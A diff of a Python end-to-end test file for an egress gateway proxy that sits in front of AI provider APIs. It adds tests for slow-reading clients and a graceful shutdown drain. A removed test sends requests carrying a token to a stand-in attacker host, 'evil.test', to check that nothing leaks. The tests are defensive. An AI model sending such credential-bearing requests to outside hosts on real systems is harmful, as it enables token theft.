@@ -5,18 +5,17 @@ the time of an idle connection is counted only while it is idle.
 import asyncio
 import re
 import shutil
+import signal
 import subprocess
 import time
 
 import pytest
 from mitmproxy import ctx
 
-from e2e.world import TOKEN, World
-from outgate.proxy import gateway as gateway_module
+from e2e.world import TOKEN, World, lines
 from support.behaviours import answer_json, endless, silent, sse
-from support.dials import watched
 from support.provider_answers import chat_completion, chat_events
-from support.raw_client import Http2, Raw, Reply, basic, http2_request, request
+from support.raw_client import Http2, Raw, http2_request, request
 from support.waiting import until
 
 NAME = "api.openai.com"
@@ -213,46 +212,43 @@ def test_a_connection_is_not_idle_while_one_exchange_runs(inside, providers, pro
     assert nothing_left(inside), left(inside)
 
 
-def broken(*_):
-    raise RuntimeError("broken")
+def test_attack_a_client_that_never_reads_its_last_answer_keeps_its_room_until_it_is_cut_off(inside, providers):
+    providers[0].script(answer_json(chat_completion("x" * 12_000_000)))
+
+    async def run():
+        async with Raw.to(inside) as raw:
+            await tunnel(raw)
+            await raw.send(request("POST", PATH, host=NAME, fields=[("connection", "close")], body=BODY))
+            raw.writer.transport.pause_reading()
+            assert await asyncio.to_thread(until, lambda: left(inside)[:3] == (0, 0, 1) and blockers(inside) == [0])
+            await asyncio.sleep(IDLE_SECONDS / 2)
+            counted = left(inside)[2]
+            ended = await asyncio.to_thread(nothing_left, inside)
+            raw.writer.transport.resume_reading()
+            return counted, ended, (await raw.reply()).whole
+
+    assert (1, True, False) == asyncio.run(run())
 
 
-HOOKS = {
-    "next_layer": (gateway_module, "layers_in"),
-    "the kind of layer": (gateway_module, "install"),
-    "http_connect": (gateway_module, "refusal"),
-    "tls_start_client": (gateway_module.Gateway, "tls_start_client"),
-    "tls_established_client": (gateway_module.Gateway, "tls_established_client"),
-    "client_connected": (gateway_module.Gateway, "client_connected"),
-}
-
-
-@pytest.mark.parametrize("hook", HOOKS)
-def test_attack_a_hook_that_fails_at_once_lets_nothing_through_unjudged(world, providers, monkeypatch, hook):
-    """Elsewhere, in a tunnel to elsewhere, and in the tunnel of an unknown caller: nothing is dialled."""
-    monkeypatch.setattr(*HOOKS[hook], broken)
-
-    async def elsewhere(gateway):
-        async with Raw.to(gateway) as raw:
-            return await raw.ask(request("POST", f"http://evil.test{PATH}", host="evil.test", fields=[basic(TOKEN)], body=BODY))
-
-    async def in_a_tunnel(gateway, token, host):
-        async with Raw.to(gateway) as raw:
-            await raw.connect(f"{NAME}:443", token)
-            try:
-                await raw.tls(NAME)
-            except (OSError, TimeoutError):
-                return Reply(0)
-            return await raw.ask(request("POST", PATH, host=host, body=BODY))
+def test_a_drain_waits_for_a_client_that_reads_its_last_answer_slowly(world, providers):
+    providers[0].script(answer_json(chat_completion("x" * 12_000_000)))
 
     async def run(gateway):
-        return [await elsewhere(gateway), await in_a_tunnel(gateway, TOKEN, "evil.test"), await in_a_tunnel(gateway, None, NAME)]
+        async with Raw.to(gateway) as raw:
+            await tunnel(raw)
+            raw.writer.transport.pause_reading()
+            await raw.send(post())
+            assert await asyncio.to_thread(providers[0].wait, lambda: bool(lines(world)))
+            gateway.process.send_signal(signal.SIGTERM)
+            await asyncio.sleep(0.5)
+            raw.writer.transport.resume_reading()
+            return await raw.reply()
 
-    with world.inside(world.policy(gateway="limits: {head_seconds: 1}")) as gateway, watched() as dials:
-        replies = asyncio.run(run(gateway))
+    with world.gateway(world.policy()) as gateway:
+        reply = asyncio.run(run(gateway))
 
-    assert [] == [reply for reply in replies if 0 < reply.status < 400]
-    assert ([], []) == (dials.connected, providers[0].seen)
+    assert (200, True) == (reply.status, reply.whole)
+    assert len(reply.body) > 12_000_000
 
 
 @pytest.mark.skipif(shutil.which("openssl") is None, reason="needs the openssl command")
